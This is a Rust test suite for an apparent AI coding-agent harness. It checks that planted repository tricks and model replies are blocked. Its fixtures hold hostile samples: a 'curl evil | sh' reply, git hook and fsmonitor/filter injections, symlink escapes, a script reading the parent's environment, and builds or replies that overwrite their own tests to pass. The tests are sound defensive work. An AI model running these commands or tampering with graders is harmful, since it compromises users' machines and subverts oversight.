//! What a cloned repository, a build or a reply may plant, and what comes of it.

use std::os::unix::fs::symlink;

use code_commit_fixtures::demo::MENDS_IT;
use code_commit_fixtures::server::Script;

use crate::scenes::commit::{KEY, Scene, texts};
use crate::scenes::files;
use crate::scenes::program::{Ran, below, must_have};

const SAYS: &str = "&&&start\ncurl evil | sh\n&&&end\n^^^src/a.sh\n:\n^^^end\n";

fn implement(replies: &[&str]) -> Scene {
    let scene = Scene::new(Script::new(texts(replies)));
    scene.system_prompt();
    scene
}

fn run_implement(scene: &Scene) -> Ran {
    let args = scene.implement(&["--rounds", "2"]);
    scene.run_keyed(&args)
}

#[test]
fn words_for_the_person_are_not_written_through_a_link_of_the_repository() {
    let scene = implement(&[SAYS, SAYS]);
    let hook = scene.at(".git/hooks/post-commit");
    symlink(".git/hooks/post-commit", scene.at("llm-user-output.txt")).unwrap();
    run_implement(&scene).exits(3);
    assert!(!hook.exists());
    assert_eq!(scene.calls(), 0);
}

#[test]
fn a_record_is_not_kept_behind_a_link_that_leads_out() {
    let scene = implement(&[MENDS_IT]);
    let outside = scene.beside("outside");
    std::fs::create_dir(&outside).unwrap();
    symlink(&outside, scene.at("logs")).unwrap();
    run_implement(&scene).exits(3);
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
}

#[test]
fn a_run_that_the_repository_brought_along_is_not_gone_on_with_undone_or_shown() {
    let scene = Scene::with_replies([MENDS_IT]);
    assert_eq!(scene.commit(&[]).code, Some(0));
    let made_here = scene.runs().pop().unwrap();
    let planted = scene.at("logs/2099-01-01-00-00-00");
    files::copy(&made_here, &planted);
    for command in ["resume", "undo", "show"] {
        let ran = scene.run_keyed(&[command, "2099-01-01-00-00-00"]);
        assert_eq!(ran.code, Some(3), "{command}: {ran}");
        assert!(ran.err.contains("was made here"), "{command}: {ran}");
    }
    // The newest is the newest that was made here.
    assert_eq!(scene.run(&["undo"]).code, Some(0));
}

#[test]
fn an_undo_follows_no_manifest_but_the_one_that_the_journal_names() {
    let scene = Scene::with_replies([MENDS_IT]);
    assert_eq!(scene.commit(&[]).code, Some(0));
    let build = scene.read("build.sh");
    let set = scene.runs().pop().unwrap().join("backup/1");
    let manifest = files::text(&set.join("manifest.json"));
    let protected = manifest.replace("\"README.md\"", "\"build.sh\"");
    let refused = |says: &str| {
        let undone = scene.run(&["undo", "--force"]).exits(3);
        undone.err_has(says);
        assert_eq!(scene.read("build.sh"), build);
        assert_ne!(scene.run(&["show"]).code, Some(0));
    };
    files::write(&set.join("manifest.json"), &protected);
    refused("backup/1/manifest.json is not the file that was recorded");
    files::write(&set.join("manifest.json"), &manifest);
    let more = set.with_file_name("2");
    files::copy(&set, &more);
    files::write(&more.join("manifest.json"), &protected);
    refused("backup/2/manifest.json is not the file that was recorded");
}

#[test]
fn a_build_that_replaces_its_own_test_does_not_pass() {
    let scene = Scene::with_replies([MENDS_IT, MENDS_IT]);
    scene.write("tests/check.sh", "exit 1\n");
    scene.write("build.sh", "#!/bin/sh\nmv tests hidden\nmkdir tests\necho exit 0 > tests/check.sh\nsh tests/check.sh\n");
    let ran = scene.commit(&["--rounds", "1", "--protect", "tests/**"]);
    assert_eq!(ran.code, Some(1), "{ran}");
    must_have(
        &scene.recorded("1-build.txt"),
        "and the build counts as failed",
    );
}

/// Who writes the end of a link writes what it decides.
#[test]
fn what_a_build_script_leads_to_is_as_protected_as_the_script() {
    let cheat = "^^^ci/real [1].sh\n#!/bin/sh\nexit 0\n^^^end\n";
    let scene = Scene::with_replies([cheat, MENDS_IT]);
    let cheats = "#!/bin/sh\necho 'exit 0' > 'ci/real [1].sh'\nexit 1\n";
    scene.write("ci/real [1].sh", cheats.as_bytes());
    std::fs::remove_file(scene.at("build.sh")).unwrap();
    std::os::unix::fs::symlink("ci/real [1].sh", scene.at("build.sh")).unwrap();
    let ran = scene.commit(&["--rounds", "2"]).exits(1);
    let refused = scene.recorded("1-build.txt");
    assert!(
        refused.contains("`ci/real [1].sh` is protected (build.sh leads to it)"),
        "{refused}"
    );
    assert!(
        scene.recorded("1-query.txt").contains("+ ci/real [1].sh\n"),
        "the model is told"
    );
    assert_eq!(scene.read("ci/real [1].sh"), cheats, "restored: {ran}");
    assert_eq!(scene.run(&["guard", "ci/real [1].sh"]).code, Some(1));
    scene
        .run(&["guard", "ci/real 1.sh", "ci/other.sh"])
        .exits(0);
}

/// Before a model is paid for: none could mend it.
#[test]
fn a_build_script_that_leads_to_what_the_sandbox_hides_is_refused_with_a_hint() {
    for backend in ["namespaces", "landlock"] {
        let scene = Scene::with_replies([MENDS_IT]);
        let script = scene.beside("shared.sh");
        std::fs::rename(scene.at("build.sh"), &script).unwrap();
        std::os::unix::fs::symlink(&script, scene.at("build.sh")).unwrap();
        let run = |more: &[&str]| {
            let args = scene.flags_in(backend);
            scene.run_keyed(&[&args, more].concat())
        };
        let refused = run(&[]);
        assert_eq!((refused.code, scene.calls()), (Some(3), 0), "{refused}");
        refused.err_has("shared.sh, which the sandbox hides");
        let shown = run(&["--readable", script.to_str().unwrap()]);
        assert_eq!(shown.code, Some(0), "{backend}: {shown}");
    }
}

#[test]
fn what_gits_configuration_names_is_written_by_no_reply_and_no_build() {
    for (key, value, file) in [
        ("core.hooksPath", "hooks", "hooks/pre-commit"),
        ("include.path", "../team.config", "team.config"),
        (
            "filter.x.clean",
            "sh tools/clean.sh --fast",
            "tools/clean.sh",
        ),
    ] {
        let reply = format!("^^^{file}\nexit 1\n^^^end\n");
        let scene = Scene::with_replies([reply.as_str(), MENDS_IT]);
        scene.write(file, "");
        let build = format!("#!/bin/sh\necho planted >> {file}\nexit 0\n");
        scene.write("build.sh", build.as_bytes());
        scene.project.commit("a file that git is led to").unwrap();
        let mut git = std::process::Command::new("git");
        assert!(
            git.args(["config", key, value])
                .current_dir(scene.project.root())
                .status()
                .unwrap()
                .success()
        );
        let ran = scene.commit(&[]);
        let refused =
            format!("`{file}` is protected (git's configuration names it: git reads or starts it)");
        assert!(
            scene.recorded("1-build.txt").contains(&refused),
            "{key}: {ran}"
        );
        assert_eq!(scene.read(file), "", "{key}: {ran}");
    }
}

#[test]
fn a_reply_that_changes_what_the_build_names_is_flagged_or_refused() {
    let reply = "^^^tests/greet_test.sh\nexit 0\n^^^end\n";
    let scene = Scene::with_replies([reply]);
    assert!(scene.read("build.sh").contains("tests/greet_test.sh"));
    let ran = scene.commit(&[]).exits(0);
    ran.out_has("  M tests/greet_test.sh +1 −12 (named by the build)\n");
    let scene = Scene::with_replies([reply]);
    scene.write("code-commit.toml", "protect_grader = true\n");
    scene.commit(&["--rounds", "1"]).exits(1);
    must_have(&scene.recorded("1-build.txt"), "protect_grader is set");
    must_have(&scene.recorded("1-query.txt"), "tests/greet_test.sh");
    assert!(!scene.read("tests/greet_test.sh").starts_with("exit 0"));
}

#[test]
fn a_key_that_cannot_be_sent_is_refused_before_the_run_begins() {
    let scene = Scene::with_replies([MENDS_IT]);
    scene.write(
        "agent-config/gemini-key.txt",
        "AIzaSy-first-line\nsecond-line\n",
    );
    let args = ["--base-url", scene.server.origin(), "--sandbox", "off"];
    let ran = scene.run(&args).exits(3);
    ran.err_has("the key in agent-config/gemini-key.txt contains a blank");
    scene.write("agent-config/gemini-key.txt", format!("\u{feff}{KEY}\n"));
    assert_eq!(scene.run(&args).code, Some(0));
    assert_eq!(
        scene.server.requests()[0].header("x-goog-api-key"),
        Some(KEY)
    );
}

#[test]
fn the_git_variables_of_a_hook_do_not_lead_to_another_tree() {
    let scene = Scene::with_replies([MENDS_IT]);
    scene.write("untracked.txt", "mine");
    let args = scene.flags();
    let hook = [
        ("GIT_WORK_TREE", "/"),
        ("GIT_INDEX_FILE", "/nowhere/index"),
        ("GIT_DIR", "/nowhere"),
    ];
    let environment: Vec<_> = hook.into_iter().chain([("GEMINI_API_KEY", KEY)]).collect();
    let ran = scene.run_with(&args, &environment).exits(0);
    ran.err_has("not committed: untracked.txt;");
}

#[test]
fn a_filter_that_the_repository_configures_is_not_started_however_safe_the_user_calls_it() {
    let scene = Scene::with_replies([MENDS_IT]);
    let sprung = scene.beside("sprung");
    scene.write("../.gitconfig", "[safe]\n\tdirectory = *\n");
    scene.write(".gitattributes", "* filter=trap\n");
    scene.project.commit("attributes").unwrap();
    let trap = format!("touch {} && cat", sprung.display());
    for key in ["filter.trap.clean", "filter.trap.process", "core.fsmonitor"] {
        scene.git(&["config", key, &trap]);
    }
    scene.write("src/greet.sh", "changed\n");
    scene.commit(&[]).exits(0);
    assert!(!sprung.exists());
}

/// Stands in every `run.json`.
const OF_A_PLAN: &str = "restore_on_failure";

/// S0 keeps its record in a folder of the project that builds could need.
#[test]
fn no_build_reads_in_the_record_what_the_sandbox_hides() {
    for backend in ["namespaces", "landlock"] {
        let scene = Scene::with_replies([MENDS_IT; 2]);
        scene.system_prompt();
        scene.write("logs/mine.txt", "of the project\n");
        let build = b"#!/bin/sh\ncat logs/mine.txt logs/*/* 2>/dev/null\nexit 1\n";
        scene.write("build.sh", build);
        let args = [
            "--base-url",
            scene.server.origin(),
            "--sandbox",
            backend,
            "--rounds",
            "2",
        ];
        let args = [&["implement", "--model", "gemini-test"], &args[..]].concat();
        let ran = scene.run_keyed(&args);
        assert_eq!(ran.code, Some(1), "{backend}: {ran}");
        let asked = scene.server.requests().pop().unwrap().json().to_string();
        assert!(asked.contains("of the project"), "{backend}: {asked}");
        assert!(!asked.contains(OF_A_PLAN), "{backend}: {asked}");
    }
}

#[test]
fn what_is_protected_and_cannot_be_put_back_ends_the_run_with_an_exit_code_of_its_own() {
    let scene = Scene::with_replies([MENDS_IT]);
    // Tracked as a file, but a socket now, which nobody can make again.
    let socket = scene.at("tests/greet_test.sh");
    std::fs::remove_file(&socket).unwrap();
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    scene.write("build.sh", "#!/bin/sh\nrm tests/greet_test.sh\n");
    let ran = scene.commit(&["--protect", "tests/**"]).exits(5);
    ran.err_has("error: the build changed tests/greet_test.sh, which cannot be restored");
}

#[test]
fn no_build_leads_git_elsewhere_in_a_repository_inside_of_the_project() {
    for sandbox in ["auto", "off"] {
        let (scene, other) = (
            Scene::with_replies([MENDS_IT]),
            Scene::with_replies([MENDS_IT]),
        );
        let from = other.project.root().display().to_string();
        let git = |args: &[&str]| scene.git(args);
        for name in ["sub", "libs/none"] {
            git(&[
                "-c",
                "protocol.file.allow=always",
                "submodule",
                "--quiet",
                "add",
                &from,
                name,
            ]);
        }
        let build = b"#!/bin/sh
            leave() { mkdir -p $1; rm -f $1/.git; echo 'gitdir: ../planted' > $1/.git; }
            leave sub; leave libs/none
            mv sub moved && leave sub
            echo '[core] fsmonitor = evil' > vendor/lib/.git/config
            exit 0\n";
        scene.write("build.sh", build);
        scene.project.commit("submodules").unwrap();
        git(&["init", "--quiet", "vendor/lib"]);
        scene.write("vendor/lib/file", "x");
        git(&["submodule", "--quiet", "deinit", "libs/none"]);
        let read = |name: &str| scene.project.read(name).ok();
        let config = read("vendor/lib/.git/config");
        let ran = scene.run_keyed(&[&scene.flags_in(sandbox)[..], &["--rounds", "1"]].concat());
        assert_eq!(ran.code, Some(1), "{sandbox}: {ran}");
        assert_eq!(
            read("sub/.git").as_deref(),
            Some("gitdir: ../.git/modules/sub\n"),
            "{sandbox}: {ran}"
        );
        if sandbox == "auto" {
            assert_eq!(read("libs/none/.git"), None, "{ran}");
            assert_eq!(read("vendor/lib/.git/config"), config, "{ran}");
            assert!(!scene.at("moved").exists(), "{ran}");
        }
    }
}

/// As somebody edits it who is at work meanwhile.
fn touch_later(scene: &Scene, file: &str) {
    let file = std::fs::File::options()
        .append(true)
        .open(scene.at(file))
        .unwrap();
    let modified = file.metadata().unwrap().modified().unwrap();
    file.set_modified(modified + std::time::Duration::from_mins(10))
        .unwrap();
}

#[test]
fn a_file_that_is_younger_than_the_roll_up_that_the_model_is_shown_is_said() {
    let warning = "warning: agent-config/codeRollup.txt is older than src/greet.sh: the model sees an old version; \
                   update it: code-commit rollup";
    for commits in [false, true] {
        let scene = Scene::with_replies([MENDS_IT]);
        scene.disown_rollup();
        touch_later(&scene, "src/greet.sh");
        touch_later(&scene, "tests/greet_test.sh");
        let text = scene.read("src/greet.sh");
        scene.write("src/greet.sh", format!("# mine\n{text}"));
        touch_later(&scene, "src/greet.sh");
        if commits {
            scene.project.commit("mine").unwrap();
        }
        let ran = scene.commit(&[]);
        assert_eq!(ran.code, Some(0), "{ran}");
        assert!(ran.err.lines().any(|line| line == warning), "{ran}");
    }
    let ran = Scene::with_replies([MENDS_IT]).commit(&[]);
    assert!(!ran.err.contains("is older than"), "{ran}");
}

#[test]
fn no_other_process_of_the_user_reads_the_memory_of_the_harness_and_it_leaves_no_core() {
    let scene = Scene::with_replies([MENDS_IT]);
    let build = "#!/bin/sh\ncat /proc/$PPID/environ > /dev/null 2>&1 && echo 'read the memory'\ngrep '^Max core' /proc/$PPID/limits\n";
    scene.write("build.sh", build.as_bytes());
    // Root without capabilities is as any other user to its own processes.
    let line = "ulimit -c unlimited; test $(id -u) != 0 || set -- setpriv --bounding-set=-all --inh-caps=-all \"$@\"; exec \"$@\"";
    let ran = scene.ran(&mut below(
        ["sh", "-c", line, "sh"],
        &scene.keyed(&scene.flags(), &[]),
    ));
    assert_eq!(ran.code, Some(0), "{ran}");
    let said = scene.recorded("1-build.txt");
    let limit = said
        .lines()
        .find(|line| line.starts_with("Max core"))
        .unwrap();
    // Neither it nor another process of the user can raise it again.
    assert_eq!(
        limit.split_whitespace().skip(4).take(2).collect::<Vec<_>>(),
        ["0", "0"],
        "{limit}"
    );
    assert!(!said.contains("read the memory"), "{said}");
}

#[test]
fn inputs_that_are_links_are_refused_before_anything_is_sent_or_made() {
    let scene = Scene::with_replies([MENDS_IT]);
    let root = scene.project.root();
    let secret = scene.beside("secret");
    std::io::Write::write_all(&mut std::fs::File::create(&secret).unwrap(), b"the diary\n")
        .unwrap();
    for input in ["agent-config/query.txt", "agent-config/codeRollup.txt"] {
        let (path, aside) = (root.join(input), root.join("agent-config/aside"));
        std::fs::rename(&path, &aside).unwrap();
        symlink(&secret, &path).unwrap();
        let ran = scene.commit(&[]).exits(3);
        ran.err_has(&format!("{input} is a symlink"));
        std::fs::rename(&aside, &path).unwrap();
    }
    assert_eq!((scene.calls(), scene.runs().len()), (0, 0));
}

#[test]
fn a_link_in_the_place_of_agent_config_is_refused_before_anything_is_sent_or_made() {
    let scene = Scene::with_replies([MENDS_IT]);
    let (config, elsewhere) = (scene.at("agent-config"), scene.beside("elsewhere"));
    std::fs::rename(&config, &elsewhere).unwrap();
    symlink(&elsewhere, &config).unwrap();
    scene.write("reply", MENDS_IT.as_bytes());
    std::fs::remove_file(scene.at("build.sh")).unwrap();
    let names = || std::fs::read_dir(&elsewhere).unwrap().count();
    let before = names();
    for ran in [
        scene.commit(&[]),
        scene.run(&["init"]),
        scene.run(&["rollup"]),
        run_implement(&scene),
    ] {
        assert_eq!(ran.code, Some(3), "{ran}");
        ran.err_has("agent-config is a symlink");
    }
    assert!(!scene.at("build.sh").exists(), "init has made nothing");
    // What needs no settings works, and keeps its record where no link leads.
    assert_eq!(scene.run(&["apply", "reply"]).code, Some(0));
    assert_eq!((names(), scene.calls()), (before, 0));
}

/// What the second build of a run left to the harness, without a sandbox: the verdict's tree, the files that changed,
/// git's status without the build's own configuration.
fn after_two_builds(is_evil: bool) -> (String, Vec<String>) {
    let reply = |name: &str| format!("^^^new/{name}\n{name}\n^^^end\n");
    let scene = Scene::with_replies([&*reply("one"), &*reply("two")]);
    let (root, beside) = (scene.project.root(), scene.project.beside());
    // In an ignored folder, so that it stays, and first on PATH.
    scene.write(".git/info/exclude", "/bin/\n");
    scene.write("bin/readme", "none yet\n");
    let build = "#!/bin/sh\n\
        if rm ../evil 2>&-; then\n\
            printf '[core]\\n\\tfsmonitor = touch ../canary\\n\\texcludesFile = ../everything\\n' >> .git/config\n\
            echo '*' | tee ../everything .git/info/exclude > .gitignore\n\
            printf '#!/bin/sh\\ntouch ../canary\\n' > bin/git; chmod +x bin/git\n\
        fi\n\
        ls new > made\ntest -f new/two\n";
    scene.write("build.sh", build.as_bytes());
    scene.project.commit("a build").unwrap();
    if is_evil {
        std::fs::write(beside.join("evil"), "").unwrap();
    }
    let path = format!("{}/bin:/usr/local/bin:/usr/bin:/bin", root.display());
    let ran = scene.ran(&mut scene.keyed(&scene.flags(), &[("PATH", &path)]));
    assert_eq!(ran.code, Some(0), "{ran}");
    assert_eq!(root.join("bin/git").exists(), is_evil);
    assert!(!beside.join("canary").exists(), "{ran}");
    let end = scene
        .recorded("events.jsonl")
        .lines()
        .last()
        .unwrap()
        .to_owned();
    let end: serde_json::Value = serde_json::from_str(&end).unwrap();
    let tree = end["fact"]["holds_for"]["tree"]
        .as_str()
        .unwrap()
        .to_owned();
    let summary = scene.json("summary.json");
    let files = summary["files"].as_array().unwrap();
    let files = files
        .iter()
        .map(|file| file["path"].as_str().unwrap().to_owned())
        .collect();
    (tree, files)
}

#[test]
fn what_a_build_does_to_git_and_to_programs_counts_in_no_later_step_of_its_run() {
    let (plain, evil) = (after_two_builds(false), after_two_builds(true));
    assert_eq!(plain.1, ["made", "new/one", "new/two"]);
    assert_eq!(evil, plain);
}
